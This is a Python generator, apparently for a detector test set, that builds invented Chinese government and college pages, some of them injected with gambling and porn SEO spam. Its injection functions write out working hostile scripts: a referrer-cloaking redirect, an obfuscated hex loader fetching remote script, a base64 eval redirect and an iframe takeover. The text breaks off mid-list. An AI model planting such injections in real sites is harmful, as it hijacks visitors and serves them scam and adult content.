# -*- coding: utf-8 -*-
"""Generate synthetic-v36: 40 gov/edu pages (28 hijacked, 12 clean of which 4 legit) in 6 templates.

    python3 make_set.py            # writes ../synthetic-v36/html/*.html + truth.jsonl

Fixed seed, byte-identical on re-run.  Layout (brief item 5): 4 invented sites x 5 pages (one template per site,
same header/nav/footer, different articles; 3 hijacked pages per site sharing the site's one injection, 2 clean) +
20 single pages on further hosts (16 hijacked with 16 further forms, 4 clean of which 2 legit).  Truth `site` = host.
Every hijacked page carries its injection in its bytes (FORM_MARK gives the byte marker of each form) and every
script form does something a browser shows (redirect, write, load, frame, retitle, pop up); no dead decoder.
"""
import base64
import html
import json
import os
import random

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.normpath(os.path.join(HERE, "..", "synthetic-v36"))
SEED = 3636
E = html.escape

# ------------------------------------------------------------------ invented spam (checked against every earlier split)
BRANDS = {
    "b_site": "珀岚湾娱乐场",           # site B: brand in the school's place
    "b_src": "澜汐国际棋牌",            # site C: brand as 来源 credit
    "b_link1": "潮汐坊真人视讯",         # site D / hidden links
    "b_link2": "鲸落电子游艺",
    "b_link3": "雁栖城百家乐开户",
    "b_dateline": "蓝湾角博彩官网",      # single: brand title line + dateline splice
    "b_copyright": "栖霞湾集团668vip",   # single: copyright splice
    "b_sitename": "朔风娱乐城",          # single: brand as site name
    "b_popup": "云栖湾线上娱乐",         # single: pop-up layer
    "b_title": "曜石娱乐首存送88",        # single: JS title rewrite
    "b_meta": "潞河赛马竞猜平台",          # single: meta refresh + keyword title
    "b_friend1": "沧浪阁彩票计划",         # single: sold friend links
    "b_friend2": "北辰湾体育投注",
    "b_offscreen1": "青崖真人荷官",         # single: off-screen link block
    "b_offscreen2": "汀洲捕鱼游戏",
    "b_dw": "星槎城电玩",                 # site D document.write anchor
}
PORN_SITE = "夜色影院永久免费_青柠视频成人版_深夜福利短视频在线_蜜瓜社区无删减"
PORN_JUNK = "午夜剧场高清资源-水蜜桃影视成人频道-私密直播间免费看"
PORN_LINE = "香蕉视频成人入口 樱花影视午夜场 快手成人版下载"
PORN_TERM = "成人影视频道"
DOMAINS = {
    "d_ref": "hupo7788.vip", "d_hex": "lantingqp.cc", "d_b64": "chaoxifang.top", "d_iframe": "jingluo66.net",
    "d_meta": "luhesaima.com", "d_uni": "yanqi998.vip", "d_pop": "yunqiwan.app",
}
STUFFED_TITLE = BRANDS["b_meta"] + "_赛马竞猜_在线投注_首充返水"

# ------------------------------------------------------------------ article material
SURN = list("王李张刘陈杨赵黄周吴徐孙胡朱高林何郭马罗梁宋郑谢韩唐冯于董萧程曹袁邓许傅沈曾彭吕苏卢蒋蔡贾丁魏薛叶阎余潘杜戴夏钟汪田任姜范方石姚谭廖邹熊金陆郝孔白崔康毛邱秦江史顾侯邵孟龙万段雷钱汤尹黎易常武乔贺赖龚文")
GIVEN = ["建国", "海燕", "志强", "丽娟", "卫东", "晓燕", "国庆", "春梅", "德明", "秀英", "永红", "文杰", "雪梅", "宏伟",
         "桂兰", "家豪", "思源", "婷婷", "振华", "晨阳", "佳怡", "俊峰", "玉洁", "明辉", "若溪", "博文", "一鸣", "静怡"]


def person(rng):
    return rng.choice(SURN) + rng.choice(GIVEN)


TOPICS_GOV = [
    ("{town}召开春季农业生产调度会",
     ["{m}月{d}日,{town}召开春季农业生产调度会,镇党委书记{p1}出席会议并讲话,镇长{p2}主持会议。",
      "会议通报了全镇冬小麦苗情和春耕备耕进展情况。截至目前,全镇已落实粮食播种面积{n1}亩,储备化肥{n2}吨,检修农机具{n3}台(套)。",
      "{p1}要求,各村要压实责任,抓好高标准农田建设和农资市场监管,确保不误农时、不撂荒一亩地。"]),
    ("{county}开展汛前安全隐患大排查",
     ["为切实做好今年防汛工作,{m}月{d}日起,{county}应急管理局牵头组成{n4}个督查组,对全县水库、山塘、地质灾害点开展汛前安全隐患大排查。",
      "督查组逐一查看了防汛物资储备、值班值守和预警设施运行情况,共排查隐患{n5}处,现场整改{n6}处,其余已建立台账限期整改。",
      "县应急管理局局长{p1}表示,将坚持边查边改,确保安全度汛。"]),
    ("{town}老年助餐服务点正式运营",
     ["{m}月{d}日,{town}{village}社区老年助餐服务点正式运营,首日为辖区{n4}0余名老年人提供午餐。",
      "助餐点由社区党群服务中心改造而成,设有就餐区和配餐间,实行“一人一卡”管理,80周岁以上老人每餐可享受政府补贴{n7}元。",
      "社区党委书记{p1}介绍,下一步将开设送餐上门服务,重点保障独居、失能老人的就餐需求。"]),
    ("{county}政务服务中心推出“周末不打烊”服务",
     ["自{m}月起,{county}政务服务中心推出“周末不打烊”服务,每周六上午开设综合受理窗口,办理不动产登记、社保医保、户籍等{n5}项高频事项。",
      "中心还设立了“办不成事”反映窗口,由值班领导现场协调解决群众办事中遇到的难题。",
      "据统计,服务推出首月共接待办事群众{n2}人次,群众满意率达99%以上。"]),
    ("{county}举办{y}年春风行动专场招聘会",
     ["{m}月{d}日,{county}人力资源和社会保障局在县文化广场举办{y}年春风行动专场招聘会,{n4}0余家企业提供就业岗位{n3}个。",
      "招聘会设置了政策咨询、技能培训报名和劳务输出登记等服务台,现场初步达成就业意向{n6}人。",
      "县人社局副局长{p1}表示,今年将持续开展“送岗位进村”活动,帮助农村劳动力就近就业。"]),
    ("{town}开展人居环境集中整治行动",
     ["{m}月{d}日,{town}组织机关干部、村组干部和志愿者{n4}0余人,在{village}村开展人居环境集中整治行动。",
      "大家分组清理房前屋后垃圾、沟渠淤泥和乱堆乱放杂物,共清运垃圾{n6}吨,拆除破旧棚舍{n7}处。",
      "镇党委副书记{p1}说,将建立“月评比、季通报”机制,推动村庄环境长效保持。"]),
    ("{county}市场监管局开展春季校园食品安全检查",
     ["为保障春季开学师生饮食安全,{county}市场监督管理局于{m}月{d}日起开展校园食品安全专项检查。",
      "检查人员重点查看了学校食堂从业人员健康证明、食品原料进货查验记录和餐具消毒情况,共检查学校食堂{n4}家,下达整改意见书{n7}份。",
      "局长{p1}要求,各学校要落实校长陪餐制度,守牢师生“舌尖上的安全”。"]),
    ("{county}召开河湖长制工作推进会",
     ["{m}月{d}日,{county}召开全面推行河湖长制工作推进会,副县长、县级河长{p1}出席会议。",
      "会议总结了去年河湖“清四乱”成效,全年巡河{n2}人次,清理河道垃圾{n5}吨,整改问题{n6}个。",
      "会议要求,各级河长要常态化巡河,重点整治非法采砂和入河排污口,确保河畅、水清、岸绿。"]),
]
TOPICS_EDU = [
    ("{school}举办{y}年春季田径运动会",
     ["{m}月{d}日,{school}{y}年春季田径运动会在东区田径场开幕,校党委书记{p1}宣布运动会开幕,副校长{p2}致辞。",
      "本届运动会为期两天,设男女子径赛、田赛和集体项目共{n4}项,来自{n7}个学院的{n3}余名运动员参赛。",
      "开幕式上,各学院方阵依次入场,展现了师生积极向上的精神风貌。"]),
    ("{school}开展实验室安全专项检查",
     ["为进一步压实实验室安全责任,{m}月{d}日至{d2}日,{school}组织开展实验室安全专项检查。",
      "检查组由资产与实验室管理处牵头,重点检查危险化学品管理、气瓶使用和用电安全,共检查实验室{n5}间,发现问题{n6}项,已全部反馈相关学院限期整改。",
      "副校长{p1}强调,要把安全教育纳入新生入学第一课,做到人人知风险、个个会处置。"]),
    ("{school}与{company}签署校企合作协议",
     ["{m}月{d}日,{school}与{company}校企合作协议签约仪式在行政楼第一会议室举行。校长{p1}与公司总经理{p2}代表双方签约。",
      "根据协议,双方将在实习实训基地建设、订单式人才培养和技术研发等方面开展合作,公司每年为学校提供实习岗位{n4}0个。",
      "{p1}表示,学校将以此次签约为契机,深化产教融合,提升人才培养质量。"]),
    ("{school}举办第{n7}届青年教师教学竞赛",
     ["{m}月{d}日,{school}第{n7}届青年教师教学竞赛决赛在教学楼A区举行,经过学院初赛选拔的{n4}名青年教师参加决赛。",
      "比赛分为教学设计评审、课堂教学和教学反思三个环节,评委由校内外教学名师组成。",
      "经过激烈角逐,{p1}等{n7}名教师获一等奖。教务处处长{p2}表示,学校将继续搭建平台,促进青年教师快速成长。"]),
    ("{school}图书馆启动“{y}读书月”活动",
     ["{m}月{d}日,{school}图书馆“{y}读书月”活动启动仪式在图书馆报告厅举行,副校长{p1}出席并讲话。",
      "本届读书月以“阅读点亮青春”为主题,将陆续开展经典诵读、真人图书馆、书评征文和旧书漂流等{n7}项活动。",
      "图书馆馆长{p2}介绍,读书月期间图书馆将延长开放时间至晚上十点半。"]),
    ("{school}召开{y}届毕业生就业工作推进会",
     ["{m}月{d}日,{school}召开{y}届毕业生就业工作推进会,校党委副书记{p1}出席会议并讲话。",
      "会上,招生就业处通报了当前毕业生就业进展,截至目前,学校已举办线上线下招聘会{n4}场,提供岗位{n3}个。",
      "{p1}要求,各学院要落实“一生一策”帮扶措施,重点关注家庭经济困难毕业生。"]),
    ("{school}举行学术报告会",
     ["{m}月{d}日下午,应{school}化学与材料学院邀请,{uni}{p1}教授在学术报告厅作题为“新型储能材料研究进展”的学术报告。",
      "{p1}教授围绕电池材料的结构设计与性能调控,介绍了团队近年来的研究成果,并与师生就科研选题、论文写作等问题进行了交流。",
      "学院副院长{p2}主持报告会,学院{n4}0余名师生聆听了报告。"]),
    ("{school}青年志愿者走进社区开展义务服务",
     ["{m}月{d}日,{school}青年志愿者协会{n4}0余名志愿者走进{village}社区,开展“学雷锋 暖社区”义务服务活动。",
      "志愿者们分为义诊咨询、家电维修、政策宣讲和环境清洁四个小组,为社区居民提供服务,共服务群众{n5}余人次。",
      "校团委书记{p1}表示,将建立与社区的长期结对机制,推动志愿服务常态化。"]),
]
LEGIT = [
    ("关于开展彩票销售场所安全检查的通知",
     ["各乡镇人民政府,县财政局、民政局、体育局:",
      "为规范彩票市场秩序,保障彩票销售场所安全,根据《彩票管理条例》及其实施细则,决定于{m}月{d}日至{d2}日在全县开展彩票销售场所安全检查。",
      "检查重点包括:彩票销售场所是否张贴“禁止向未成年人销售彩票”标识,是否存在以诋毁同业者、虚假宣传等不正当手段销售彩票,是否违规开展互联网销售彩票业务。",
      "各地要对检查中发现的问题建立台账,督促限期整改,并于{m2}月底前将检查情况报送县财政局。"],
     "lottery-regulation-notice"),
    ("{y}年度福利彩票公益金资助项目公示",
     ["根据《彩票公益金管理办法》和《民政部彩票公益金使用管理信息公开办法》有关规定,现将{county}民政局{y}年度福利彩票公益金资助项目情况公示如下:",
      "一、资助养老服务设施建设项目{n7}个,安排资金{n5}万元,主要用于农村互助幸福院改造提升。",
      "二、资助残疾儿童康复救助项目{n6}个,安排资金{n4}0万元。",
      "公示期为{m}月{d}日至{d2}日。如有异议,请在公示期内向县民政局反映。"],
     "welfare-lottery-fund-notice"),
    ("{city}公安局通报打击跨境赌博典型案例",
     ["{m}月{d}日,{city}公安局召开新闻通报会,通报今年以来打击跨境赌博违法犯罪典型案例。",
      "今年以来,市公安局共破获跨境网络赌博案件{n7}起,抓获犯罪嫌疑人{n4}名,冻结涉案资金{n5}万元。其中,一犯罪团伙通过社交软件招揽参赌人员,为境外赌博网站提供资金结算服务,涉案流水达{n6}00万元。",
      "警方提醒,网络赌博“十赌九骗”,广大群众要自觉抵制各类赌博活动,发现涉赌线索可拨打110举报。"],
     "anti-gambling-police-report"),
    ("体育彩票“责任彩票宣传周”活动启动",
     ["{m}月{d}日,{city}体育彩票管理中心“责任彩票宣传周”活动在市体育中心广场启动。",
      "活动通过展板、宣传手册和现场问答等形式,向市民宣传“理性购彩、量力而行”的理念,提示未成年人不得购买彩票。",
      "中心负责人{p1}介绍,宣传周期间,全市{n5}家体彩实体店将同步开展责任彩票宣传,并对销售人员进行合规培训。"],
     "responsible-lottery-campaign"),
]
TOWNS = ["青石镇", "柳塘镇", "白鹭镇", "云岭镇", "沙河镇", "枫桥镇", "桃源乡", "龙泉镇"]
COUNTIES = ["临川县", "安宁县", "定远县", "永和县", "清水县", "宁远县", "长宁县", "和平县"]
VILLAGES = ["东湖", "杨柳", "红星", "新民", "金桥", "石门", "望江", "三合"]
SCHOOLS = ["南江师范学院", "东川职业技术学院", "西岭理工大学", "滨海财经学院", "北原医学院", "中州工程学院"]
COMPANIES = ["华瑞智能装备有限公司", "恒达建设集团有限公司", "瑞丰农业科技股份有限公司", "远航物流有限公司"]
UNIS = ["中南大学", "华东理工大学", "四川大学", "吉林大学"]
CITIES = ["临州市", "安平市", "宁川市", "江城市"]


def fill(s, v):
    return s.format(**v)


def make_vals(rng, y):
    m = rng.randint(2, 11)
    d = rng.randint(1, 18)
    return dict(m=m, d=d, d2=d + rng.randint(3, 9), m2=min(m + 1, 12), y=y, p1=person(rng), p2=person(rng),
                n1=rng.randint(21, 98) * 100, n2=rng.randint(1200, 9800), n3=rng.randint(300, 2600),
                n4=rng.randint(3, 9), n5=rng.randint(12, 96), n6=rng.randint(5, 48), n7=rng.randint(2, 9),
                town=rng.choice(TOWNS), county=rng.choice(COUNTIES), village=rng.choice(VILLAGES),
                school=rng.choice(SCHOOLS), company=rng.choice(COMPANIES), uni=rng.choice(UNIS), city=rng.choice(CITIES))


def make_article(rng, pool, vals, fixed=None):
    t, paras = pool[fixed] if fixed is not None else rng.choice(pool)
    return fill(t, vals), [fill(p, vals) for p in paras]


# ------------------------------------------------------------------ injection forms
def hex_esc(s):
    return "".join("\\x%02x" % ord(ch) for ch in s)


def uni_esc(s):
    return "".join("\\u%04x" % ord(ch) for ch in s)


def inj_referrer_writelinks():
    links = "".join('<a href="https://%s/?c=%d">%s</a>' % (DOMAINS["d_ref"], i, a)
                    for i, a in enumerate([BRANDS["b_dw"], BRANDS["b_link1"], BRANDS["b_link2"]], 1))
    return ('<script type="text/javascript">\n'
            'var rf=document.referrer.toLowerCase();\n'
            'if(/baidu|sogou|so\\.com|sm\\.cn|bing/.test(rf)){window.location.replace("https://%s/?from=seo");}\n'
            'document.write(\'<div class="sp-links" style="height:1px;overflow:hidden">%s</div>\');\n'
            '</script>') % (DOMAINS["d_ref"], links.replace("'", "\\'"))


def inj_hex_loader():
    url = "https://%s/static/tj.js" % DOMAINS["d_hex"]
    return ('<script>var _0x5e1a=["%s","%s"];document[_0x5e1a[1]](\'<script src="\'+_0x5e1a[0]+\'"><\\/script>\');</script>'
            % (hex_esc(url), hex_esc("write")))


def inj_b64_mobile_redirect():
    code = 'if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){location.href="https://%s/m/";}' % DOMAINS["d_b64"]
    return '<script>eval(atob("%s"));</script>' % base64.b64encode(code.encode("ascii")).decode("ascii")


def inj_mobile_iframe():
    return ('<script>if(/Mobile|Android|iPhone/i.test(navigator.userAgent)){document.documentElement.innerHTML='
            '\'<iframe src="https://%s/h5/" style="position:fixed;top:0;left:0;width:100%%;height:100%%;border:0;z-index:99999"></iframe>\';}</script>'
            % DOMAINS["d_iframe"])


def inj_unicode_write():
    s = '<div style="position:fixed;bottom:0;width:100%%;text-align:center"><a href="https://%s/">%s</a></div>' % (
        DOMAINS["d_uni"], BRANDS["b_link3"])
    return '<script>document.write("%s");</script>' % uni_esc(s)


def inj_popup():
    return ('<script>(function(){var d=document.createElement("div");d.id="tc-layer";'
            'd.style.cssText="position:fixed;right:10px;bottom:10px;width:260px;background:#c00;color:#fff;padding:12px;z-index:9999";'
            'd.innerHTML=\'<a style="color:#fff" href="https://%s/">%s 注册即送体验金</a>\';'
            'window.addEventListener("load",function(){document.body.appendChild(d);});})();</script>'
            % (DOMAINS["d_pop"], BRANDS["b_popup"]))


def inj_title_rewrite():
    return '<script>document.title="%s";</script>' % BRANDS["b_title"]


def inj_offscreen():
    return ('<div style="position:absolute;left:-9999px;top:-9999px"><a href="https://%s/">%s</a> <a href="https://%s/">%s</a></div>'
            % (DOMAINS["d_ref"], BRANDS["b_offscreen1"], DOMAINS["d_iframe"], BRANDS["b_offscreen2"]))


def inj_friendlinks():
    return ('<div class="flink"><b>友情链接:</b> <a href="https://www.gov.cn/">中国政府网</a> | <a href="https://%s/">%s</a> | '
            '<a href="https://%s/">%s</a></div>' % (DOMAINS["d_meta"], BRANDS["b_friend1"], DOMAINS["d_pop"], BRANDS["b_friend2"]))


# byte marker of each form: a page labelled with the form must carry it
FORM_MARK = {
    "porn-keyword-title": PORN_SITE,
    "brand-in-place": BRANDS["b_site"],
    "brand-as-source-credit": BRANDS["b_src"],
    "referrer-redirect-document-write-links": "document.referrer",
    "junk-tags-porn-title": '<tfoot id="',
    "casino-brand-title-line": BRANDS["b_dateline"],
    "brand-copyright-splice": BRANDS["b_copyright"],
    "porn-term-in-place": PORN_TERM,
    "hex-script-loader": "\\x68\\x74\\x74\\x70",
    "base64-eval-mobile-redirect": "eval(atob(",
    "meta-refresh-keyword-title": 'http-equiv="refresh"',
    "offscreen-hidden-links": "left:-9999px",
    "sold-friend-links": BRANDS["b_friend1"],
    "porn-line-in-body": PORN_LINE,
    "copy-on-unrelated-host": None,   # a copy shows no injected string: carried by the host, not by bytes
    "mobile-iframe-takeover": "<iframe src=",
    "js-title-rewrite": "document.title=",
    "brand-as-site-name": BRANDS["b_sitename"],
    "popup-layer-script": "document.createElement(\"div\")",
    "unicode-document-write": "document.write(\"\\u003c",
}

# ------------------------------------------------------------------ templates
NAV_GOV = ["首页", "政务公开", "政务服务", "互动交流", "走进本地"]
NAV_EDU = ["首页", "学校概况", "新闻中心", "教学科研", "招生就业", "校园文化"]


def t_dotcms(pg):
    """S1 dotCMS-like municipal bureau portal (utf-8): dot-content blocks, byline with | separators."""
    h = pg["head_extra"]
    out = ['<!DOCTYPE html>', '<html lang="zh-CN">', '<head>', '<meta charset="utf-8">',
           '<meta name="viewport" content="width=device-width,initial-scale=1">',
           '<title>%s</title>' % E(pg["html_title"]), h,
           '<link rel="stylesheet" href="/application/themes/bureau/css/main.css">', '</head>',
           '<body class="dot-page">', pg["body_top"],
           '<header class="dot-header"><div class="container"><a class="dot-logo" href="/">%s</a>'
           '<form class="dot-search" action="/search"><input name="q" placeholder="站内搜索"></form></div></header>' % E(pg["site_name"]),
           '<nav class="dot-nav"><ul>%s</ul></nav>' % "".join('<li><a href="#">%s</a></li>' % n for n in NAV_GOV),
           '<div class="container dot-main"><ol class="dot-crumb"><li><a href="/">首页</a></li><li>%s</li><li>正文</li></ol>' % E(pg["column"]),
           '<div class="dot-content" data-identifier="%s">' % pg["ident"],
           '<h1 class="dot-title">%s</h1>' % E(pg["headline"]),
           '<div class="dot-byline">发布时间:%s | 来源:%s | 作者:%s | 浏览次数:<span id="hits">%d</span></div>'
           % (pg["date_str"], E(pg["source_shown"]), E(pg["author"]), pg["hits"]),
           '<div class="dot-body">']
    out += pg["body_html"]
    out += ['</div>', '</div>', '</div>', pg["body_bottom"],
            '<footer class="dot-footer"><p>主办:%s 承办:%s信息中心</p><p>网站标识码:%s 备案号:%s</p></footer>'
            % (E(pg["site_name"]), E(pg["site_name"]), pg["wzbs"], pg["icp"]), '</body>', '</html>']
    return "\n".join(out)


def t_ametys(pg):
    """S2 Ametys-like university news (gb18030): article with dl metadata."""
    out = ['<?xml version="1.0" encoding="gb18030"?>', '<!DOCTYPE html>', '<html xmlns="http://www.w3.org/1999/xhtml" lang="zh">',
           '<head>', '<meta http-equiv="Content-Type" content="text/html; charset=gb18030" />',
           '<title>%s</title>' % E(pg["html_title"]), pg["head_extra"],
           '<link rel="stylesheet" type="text/css" href="/skins/campus/resources/css/ametys.css" />', '</head>',
           '<body>', pg["body_top"],
           '<div id="ametys-header"><div class="brand"><img src="/skins/campus/img/logo.png" alt="" /> <span class="sitename">%s</span></div>'
           '<ul class="ametys-menu">%s</ul></div>' % (E(pg["site_name"]), "".join('<li><a href="#">%s</a></li>' % n for n in NAV_EDU)),
           '<div id="ametys-page"><div class="ametys-path">当前位置:首页 &gt; %s</div>' % E(pg["column"]),
           '<article class="ametys-article">', '<h1>%s</h1>' % E(pg["headline"]),
           '<dl class="ametys-meta"><dt>作者</dt><dd>%s</dd><dt>来源</dt><dd>%s</dd><dt>日期</dt><dd>%s</dd><dt>阅读</dt><dd>%d</dd></dl>'
           % (E(pg["author"]), E(pg["source_shown"]), pg["date_str"], pg["hits"]),
           '<div class="ametys-richtext">']
    out += pg["body_html"]
    out += ['</div>', '<p class="ametys-editor">(审核:%s)</p>' % E(pg["editor"]), '</article>', '</div>', pg["body_bottom"],
            '<div id="ametys-footer">Copyright &copy; %s 版权所有 地址:%s 邮编:%s</div>' % (E(pg["site_name"]), E(pg["addr"]), pg["zip"]),
            '</body>', '</html>']
    return "\n".join(out)


def t_mura(pg):
    """S3 Mura-like county 信息公开 page (gbk): metadata table, 信息来源 line under the title."""
    out = ['<!DOCTYPE html>', '<html>', '<head>', '<meta http-equiv="Content-Type" content="text/html; charset=gbk">',
           '<title>%s</title>' % E(pg["html_title"]), pg["head_extra"],
           '<link href="/sites/xxgk/includes/themes/mura/css/site.css" rel="stylesheet">', '</head>', '<body id="mura-body">',
           pg["body_top"],
           '<div class="mura-top"><div class="mura-logo">%s</div><div class="mura-date">无障碍 | 长者模式</div></div>' % E(pg["site_name"]),
           '<div class="mura-nav">%s</div>' % " ".join('<a href="#">%s</a>' % n for n in NAV_GOV),
           '<div class="mura-wrap"><div class="mura-loc">您现在的位置:首页 &gt; 信息公开 &gt; %s</div>' % E(pg["column"]),
           '<table class="mura-xxgk" cellspacing="0"><tr><th>索引号</th><td>%s</td><th>主题分类</th><td>%s</td></tr>'
           '<tr><th>发布机构</th><td>%s</td><th>发文日期</th><td>%s</td></tr><tr><th>名称</th><td colspan="3">%s</td></tr></table>'
           % (pg["index_no"], E(pg["column"]), E(pg["org"]), pg["date_alt"], E(pg["headline"])),
           '<div class="mura-title">%s</div>' % E(pg["headline"]),
           '<div class="mura-info">信息来源:%s&nbsp;&nbsp;发布日期:%s&nbsp;&nbsp;作者:%s&nbsp;&nbsp;【字体:大 中 小】</div>'
           % (E(pg["source_shown"]), pg["date_str"], E(pg["author"])),
           '<div class="mura-body" id="zoom">']
    out += pg["body_html"]
    out += ['</div>', '<div class="mura-tools">【打印本页】 【关闭窗口】</div>', '</div>', pg["body_bottom"],
            '<div class="mura-foot">主办单位:%s 地址:%s 网站标识码:%s</div>' % (E(pg["site_name"]), E(pg["addr"]), pg["wzbs"]),
            '</body>', '</html>']
    return "\n".join(out)


def t_vuepress(pg):
    """S4 VuePress-like department news (utf-8): theme-default-content, meta line after the text."""
    out = ['<!DOCTYPE html>', '<html lang="zh-CN">', '<head>', '<meta charset="utf-8">',
           '<title>%s</title>' % E(pg["html_title"]), pg["head_extra"],
           '<meta name="generator" content="VuePress 2.0.0">', '<link rel="stylesheet" href="/assets/style.css">', '</head>',
           '<body>', pg["body_top"], '<div id="app"><div class="theme-container">',
           '<header class="navbar"><span class="site-name">%s</span><nav class="navbar-items">%s</nav></header>'
           % (E(pg["site_name"]), "".join('<a class="navbar-item" href="#">%s</a>' % n for n in NAV_EDU)),
           '<aside class="sidebar"><p class="sidebar-heading">%s</p></aside>' % E(pg["column"]),
           '<main class="page"><div class="theme-default-content">', '<h1 id="title">%s</h1>' % E(pg["headline"])]
    out += pg["body_html"]
    out += ['</div>', '<footer class="page-meta"><div class="meta-item">作者:%s</div><div class="meta-item">来源:%s</div>'
            '<div class="meta-item last-updated">发布于:%s</div></footer>' % (E(pg["author"]), E(pg["source_shown"]), pg["date_str"]),
            '</main></div></div>', pg["body_bottom"],
            '<div class="site-footer">%s 版权所有</div>' % E(pg["site_name"]), '</body>', '</html>']
    return "\n".join(out)


def t_olivero(pg):
    """S5 Drupal-Olivero-like college news (utf-8): node__meta with <time>, 稿件来源 after the text."""
    out = ['<!DOCTYPE html>', '<html lang="zh-hans" dir="ltr">', '<head>', '<meta charset="utf-8" />',
           '<meta name="Generator" content="Drupal 10 (https://www.drupal.org)" />',
           '<title>%s</title>' % E(pg["html_title"]),
           pg["head_extra"], '</head>', '<body class="path-node page-node-type-article">', pg["body_top"],
           '<div class="dialog-off-canvas-main-canvas"><header class="site-header"><div class="site-branding__name">%s</div>'
           '<nav class="primary-nav">%s</nav></header>' % (E(pg["site_name"]), "".join('<a href="#">%s</a>' % n for n in NAV_EDU)),
           '<main id="main-content"><article class="node node--type-article">',
           '<h1 class="title page-title"><span class="field field--name-title">%s</span></h1>' % E(pg["headline"]),
           '<div class="node__meta"><span class="field--name-uid">%s</span> 发布于 <time datetime="%s">%s</time></div>'
           % (E(pg["author"]), pg["date_iso"], pg["date_str"]),
           '<div class="text-content clearfix field field--name-body">']
    out += pg["body_html"]
    out += ['</div>', '<div class="field field--name-field-source">稿件来源:%s</div>' % E(pg["source_shown"]),
            '</article></main>', pg["body_bottom"],
            '<footer class="site-footer">%s &middot; %s</footer></div>' % (E(pg["site_name"]), E(pg["addr"])), '</body>', '</html>']
    return "\n".join(out)


def t_jeecg(pg):
    """S6 JeecgBoot-portal-like township page (gbk): jeecg-article, 时间/来源/作者/点击 line."""
    out = ['<!DOCTYPE html>', '<html>', '<head>', '<meta charset="gbk">', '<title>%s</title>' % E(pg["html_title"]),
           pg["head_extra"], '<link rel="stylesheet" href="/jeecg-portal/css/portal.css">', '</head>', '<body>', pg["body_top"],
           '<div class="jp-header"><h2>%s</h2></div>' % E(pg["site_name"]),
           '<div class="jp-menu">%s</div>' % "".join('<span><a href="#">%s</a></span>' % n for n in NAV_GOV),
           '<div class="jp-container"><div class="jp-left"><div class="jp-col">%s</div></div><div class="jp-right">' % E(pg["column"]),
           '<div class="jeecg-article"><div class="jp-art-title">%s</div>' % E(pg["headline"]),
           '<div class="jp-art-info">时间:%s&emsp;来源:%s&emsp;作者:%s&emsp;点击:%d</div>'
           % (pg["date_str"], E(pg["source_shown"]), E(pg["author"]), pg["hits"]),
           '<div class="jp-art-content">']
    out += pg["body_html"]
    out += ['</div></div>', '</div></div>', pg["body_bottom"],
            '<div class="jp-footer">%s 版权所有 技术支持:%s信息中心</div>' % (E(pg["site_name"]), E(pg["site_name"])), '</body>', '</html>']
    return "\n".join(out)


TEMPLATES = {
    "S1_dotcms": (t_dotcms, "utf-8", "%Y-%m-%d %H:%M"),
    "S2_ametys": (t_ametys, "gb18030", "%Y年%m月%d日"),
    "S3_mura": (t_mura, "gbk", "%Y-%m-%d"),
    "S4_vuepress": (t_vuepress, "utf-8", "%Y/%-m/%-d"),
    "S5_olivero": (t_olivero, "utf-8", "%Y年%-m月%-d日"),
    "S6_jeecg": (t_jeecg, "gbk", "%Y.%m.%d"),
}


def fmt_date(fmt, y, m, d, hh, mm):
    s = fmt.replace("%Y", str(y)).replace("%-m", str(m)).replace("%-d", str(d)).replace("%m", "%02d" % m)
    s = s.replace("%d", "%02d" % d).replace("%H", "%02d" % hh).replace("%M", "%02d" % mm)
    return s


# ------------------------------------------------------------------ plan
SITES = [
    dict(host="wlj.linchuan-gov.cn", name="临川县文化广电和旅游局", inst="临川县", tpl="S1_dotcms", kind="gov", form="porn-keyword-title",
         legit_ks=(), origin_form="modelled on real-cases-v36's porn keyword lines set over a copied page (rc36 porn-title pages)"),
    dict(host="news.nanjiang-nu.edu.cn", name="南江师范学院新闻网", inst="南江师范学院", tpl="S2_ametys", kind="edu", form="brand-in-place",
         legit_ks=(), origin_form="modelled on real-cases-v36's brand standing in a college's name (rc36 brand-in-place pages)"),
    dict(host="xxgk.dingyuan-gov.cn", name="定远县人民政府信息公开", inst="定远县", tpl="S3_mura", kind="gov", form="brand-as-source-credit",
         legit_ks=(2, 5), origin_form="modelled on real-cases-v36's betting brand credited as 来源 (rc36 brand-as-source page)"),
    dict(host="jwc.dongchuan-vtc.edu.cn", name="东川职业技术学院教务处", inst="东川职业技术学院", tpl="S4_vuepress", kind="edu",
         form="referrer-redirect-document-write-links", legit_ks=(),
         origin_form="a search-referrer cloaking redirect with a document.write link block (a form with live effect: it redirects search visitors and writes the links for everyone)"),
]
SINGLES = [
    # (template, kind, form, host, site name, institution)
    ("S5_olivero", "edu", "junk-tags-porn-title", "news.xiling-ut.edu.cn", "西岭理工大学新闻网", "西岭理工大学"),
    ("S6_jeecg", "gov", "casino-brand-title-line", "www.baihe-town.gov.cn", "白鹤镇人民政府", "白鹤镇"),
    ("S5_olivero", "edu", "brand-copyright-splice", "tw.nanjiang-nu.edu.cn", "南江师范学院团委", "南江师范学院"),
    ("S2_ametys", "edu", "porn-term-in-place", "news.zhongzhou-ei.edu.cn", "中州工程学院新闻网", "中州工程学院"),
    ("S6_jeecg", "gov", "hex-script-loader", "www.longquan-town.gov.cn", "龙泉镇人民政府", "龙泉镇"),
    ("S1_dotcms", "gov", "base64-eval-mobile-redirect", "www.anning-gov.cn", "安宁县人民政府", "安宁县"),
    ("S3_mura", "gov", "meta-refresh-keyword-title", "zwgk.yonghe-gov.cn", "永和县政务公开", "永和县"),
    ("S5_olivero", "edu", "offscreen-hidden-links", "www.binhai-fc.edu.cn", "滨海财经学院", "滨海财经学院"),
    ("S6_jeecg", "gov", "sold-friend-links", "www.dingxi-town.gov.cn", "丁溪镇人民政府", "丁溪镇"),
    ("S4_vuepress", "edu", "porn-line-in-body", "lib.xiling-ut.edu.cn", "西岭理工大学图书馆", "西岭理工大学"),
    ("S3_mura", "gov", "copy-on-unrelated-host", "www.qingshui-gov.cn", "清水县人民政府", "清水县"),
    ("S2_ametys", "edu", "mobile-iframe-takeover", "xcb.beiyuan-mc.edu.cn", "北原医学院党委宣传部", "北原医学院"),
    ("S1_dotcms", "gov", "js-title-rewrite", "fgw.ningyuan-gov.cn", "宁远县发展和改革局", "宁远县"),
    ("S6_jeecg", "gov", "brand-as-site-name", "www.taoyuan-town.gov.cn", "桃源乡人民政府", "桃源乡"),
    ("S5_olivero", "edu", "popup-layer-script", "xsc.binhai-fc.edu.cn", "滨海财经学院学生处", "滨海财经学院"),
    ("S1_dotcms", "gov", "unicode-document-write", "www.changning-gov.cn", "长宁县人民政府", "长宁县"),
